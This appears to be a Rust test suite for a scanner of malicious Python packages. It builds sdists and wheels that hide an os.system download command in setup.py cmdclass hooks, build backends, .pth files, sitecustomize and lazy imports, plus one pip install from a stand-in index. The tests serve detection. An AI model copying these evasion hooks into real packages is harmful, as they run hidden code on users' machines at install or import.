//! Evasions in what makes the code run.

use fondaco_testkit::{Sdist, Wheel};
use fondaco_verdict::Trigger::{Import, Install, Startup};
use fondaco_verdict::Verdict::{Clean, Suspicious};

use crate::{COMMAND, Evasion, HONEST, evasion, hold, module, plain, setup};

const RULE: &str = "command-download";

fn at_install(name: &'static str, sdist: Sdist) -> Evasion {
    evasion(name, sdist.build(), (Suspicious, RULE), Install)
}

#[test]
fn commands_of_setuptools() {
    let class = |base: &str| {
        format!(
            "import os\nfrom setuptools.command.{base} import {base}\nclass C({base}):\n    def run(self):\n        os.system('{COMMAND}')\n        {base}.run(self)\n"
        )
    };
    let run = format!("import os\nos.system('{COMMAND}')\n");
    let bare = format!(
        "import os\nfrom setuptools import Command\nclass C(Command):\n    user_options = []\n    def initialize_options(self):\n        pass\n    def finalize_options(self):\n        os.system('{COMMAND}')\n    def run(self):\n        pass\n"
    );
    let patched = format!(
        "import os, setuptools.command.build_py as b\ndef run(self):\n    os.system('{COMMAND}')\nb.build_py.run = run\nsetup()\n"
    );
    hold(&[
        at_install("no hook at all", setup(&format!("{run}setup()\n"))),
        at_install(
            "cmdclass in a variable",
            setup(&format!("{}c = {{'install': C}}\nsetup(cmdclass=c)\n", class("install"))),
        ),
        at_install(
            "cmdclass in **",
            setup(&format!("{}kw = dict(cmdclass={{'install': C}})\nsetup(**kw)\n", class("install"))),
        ),
        at_install(
            "cmdclass by a function",
            setup(&format!(
                "{}def f():\n    return {{'develop': C}}\nsetup(cmdclass=f())\n",
                class("develop")
            )),
        ),
        at_install("build_py", setup(&format!("{}setup(cmdclass={{'build_py': C}})\n", class("build_py")))),
        at_install("egg_info", setup(&format!("{}setup(cmdclass={{'egg_info': C}})\n", class("egg_info")))),
        at_install("sdist", setup(&format!("{}setup(cmdclass={{'sdist': C}})\n", class("sdist")))),
        at_install("another method of a command", setup(&format!("{bare}setup(cmdclass={{'x': C}})\n"))),
        at_install("a command that is patched", setup(&patched)),
        at_install("a file beside setup.py", setup("import helper\nsetup()\n").file("helper.py", &run)),
        at_install(
            "a function beside setup.py",
            setup("from _build.core import go\ngo()\nsetup()\n")
                .file("_build/__init__.py", "")
                .file("_build/core.py", format!("import os\ndef go():\n    os.system('{COMMAND}')\n")),
        ),
        at_install(
            "exec of a file beside setup.py",
            setup("exec(open('x/_about.py').read())\nsetup()\n").file("x/_about.py", &run),
        ),
        at_install(
            "runpy of a file beside setup.py",
            setup("import runpy\nrunpy.run_path('tools/gen.py')\nsetup()\n").file("tools/gen.py", &run),
        ),
        at_install(
            "a process with a file beside setup.py",
            setup("import subprocess, sys\nsubprocess.call([sys.executable, 'tools/gen.py'])\nsetup()\n")
                .file("tools/gen.py", &run),
        ),
    ]);
}

#[test]
fn backends_and_their_hooks() {
    let run = format!("import os\nos.system('{COMMAND}')\n");
    let backend = format!(
        "import os\nfrom setuptools.build_meta import *\ndef build_wheel(*a, **k):\n    os.system('{COMMAND}')\ndef get_requires_for_build_wheel(c=None):\n    os.system('{COMMAND}')\n    return []\n"
    );
    let project =
        |toml: &str| Sdist::new("x", "1").file("x/__init__.py", HONEST).file("pyproject.toml", toml);
    hold(&[
        at_install(
            "backend-path",
            project("[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_b']\n")
                .file("_b/backend.py", &backend),
        ),
        at_install(
            "backend-path, at import",
            project("[build-system]\nrequires = []\nbuild-backend = 'backend:inner'\nbackend-path = ['.']\n")
                .file("backend.py", &run),
        ),
        at_install(
            "what a backend imports",
            project("[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n")
                .file("backend.py", "import extra\n")
                .file("extra.py", &run),
        ),
        at_install(
            "a hook of hatchling",
            project("[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'b.py'\n").file("b.py", &run),
        ),
        at_install(
            "cmdclass in setup.cfg",
            Sdist::new("x", "1")
                .file("x/__init__.py", HONEST)
                .file("setup.cfg", "[options]\ncmdclass =\n    build_py = x.b.B\n")
                .file("x/b.py", &run),
        ),
        // Imported by the build too; it is the same code.
        evasion(
            "a version by attr:",
            Sdist::new("x", "1")
                .file("x/__init__.py", format!("{HONEST}{run}__version__ = str(1)\n"))
                .file("setup.cfg", "[metadata]\nversion = attr: x.__version__\n")
                .build(),
            (Suspicious, RULE),
            Import,
        ),
    ]);
}

#[test]
fn at_import_or_start() {
    let run = format!("import os\nos.system('{COMMAND}')\n");
    let wheel = || Wheel::new("x", "1").file("x/__init__.py", HONEST);
    let at_start = |name, wheel: Wheel| evasion(name, wheel.build(), (Suspicious, RULE), Startup);
    let at_import = |name, wheel: Wheel| evasion(name, wheel.build(), (Suspicious, RULE), Import);
    hold(&[
        at_start(".pth", wheel().file("x.pth", format!("import os; os.system('{COMMAND}')\n"))),
        at_start("a module that .pth imports", wheel().file("x.pth", "import x._warm\n").file("x/_warm.py", &run)),
        at_start(".pth in .data", wheel().file("x-1.data/purelib/x.pth", format!("import os; os.system('{COMMAND}')\n"))),
        at_start("sitecustomize", wheel().file("sitecustomize.py", &run)),
        at_start("usercustomize in .data", wheel().file("x-1.data/platlib/usercustomize.py", &run)),
        at_import("a sibling", module("from . import _core\n").file("x/_core.py", &run)),
        at_import("a sibling of a sibling", module("from .a import *\n").file("x/a.py", "from . import b\n").file("x/b.py", &run)),
        at_import("a function of a sibling", module("from .a import go\ngo()\n").file("x/a.py", format!("import os\ndef go():\n    os.system('{COMMAND}')\n"))),
        at_import("a namespace package", Wheel::new("x", "1").file("ns/x/client.py", format!("import os\ndef _load():\n    os.system('{COMMAND}')\n_load()\n"))),
        at_import("a lazy import", module("import importlib\ndef __getattr__(name):\n    return importlib.import_module('._lazy', __name__)\n").file("x/_lazy.py", &run)),
        at_import("a lazy import by table", module("_LAZY = {'Client': '._lazy'}\ndef __getattr__(name):\n    import importlib\n    return getattr(importlib.import_module(_LAZY[name], __name__), name)\n").file("x/_lazy.py", &run)),
        at_import("another module's loader", module("import pkgutil\nfor m in pkgutil.iter_modules(__path__):\n    __import__(__name__ + '.' + m.name)\n").file("x/_w.py", &run)),
    ]);
}

#[test]
fn by_way_of_something_else() {
    let direct = Wheel::new("x", "1")
        .file("x/__init__.py", HONEST)
        .requires("y @ https://x.example.invalid/y-1.tar.gz")
        .build();
    let pip = format!(
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://x.example.invalid/simple', 'y'])\n{HONEST}"
    );
    hold(&[
        // The other package is inspected when it is asked for.
        evasion(
            "a clean package that requires another",
            Wheel::new("x", "1").file("x/__init__.py", HONEST).requires("y").build(),
            (Clean, ""),
            None,
        ),
        evasion("a requirement by address", direct, (Suspicious, "direct-dependency"), None),
        evasion("pip from the code", module(&pip).build(), (Clean, "foreign-install"), Import),
        // Each file is judged by itself, whatever the others of its release are.
        evasion(
            "the sdist beside a clean wheel",
            setup(&format!("{}\nsetup()\n", plain())).build(),
            (Suspicious, RULE),
            Install,
        ),
        evasion("the clean wheel beside it", module(HONEST).build(), (Clean, ""), None),
        evasion(
            "the wheel for one platform",
            module(&format!("{HONEST}{}\n", plain())).tag("cp312-cp312-win_amd64").build(),
            (Suspicious, RULE),
            Import,
        ),
    ]);
}

#[test]
fn files_that_no_import_names() {
    let run = format!("import os\nos.system('{COMMAND}')\n");
    let package = |loader: &str| {
        Wheel::new("x", "1").file("x/__init__.py", format!("{HONEST}{loader}")).file("x/old/a-b.py", &run)
    };
    let found = |name, wheel: Wheel, trigger| evasion(name, wheel.build(), (Clean, RULE), trigger);
    hold(&[
        // Something that isn't seen may load it yet: a finder, another package.
        found("not at all", package(""), Import),
        found("run by its path", package("import runpy\nrunpy.run_path('x/old/a-b.py')\n"), Import),
        found("executed", package("exec(open(__file__[:-11] + 'old/a-b.py').read())\n"), Import),
        found(
            "imported by its name",
            package("import importlib\nimportlib.import_module('x.old.a-b')\n"),
            Import,
        ),
        found("imported by its name, plainly", package("__import__('x.old.a-b')\n"), Import),
        found(
            "loaded by its path",
            package("import importlib.util as u\ns = u.spec_from_file_location('a', 'x/old/a-b.py')\n"),
            Import,
        ),
        found(
            "whatever there is",
            package("import pkgutil\nfor m in pkgutil.iter_modules(__path__):\n    __import__(m.name)\n"),
            Import,
        ),
        found(
            "from a folder that is searched",
            package("import sys\nsys.path.append('x/old')\n__import__('a-b')\n"),
            Import,
        ),
        found(
            "in a folder that was meant to be one",
            Wheel::new("x", "1").file("x/__init__.py", HONEST).file("y-z/a-b.py", &run),
            Import,
        ),
        found(
            "installed where imports look",
            Wheel::new("x", "1").file("x/__init__.py", HONEST).file("x-1.data/purelib/y/a.py", &run),
            Import,
        ),
    ]);
}
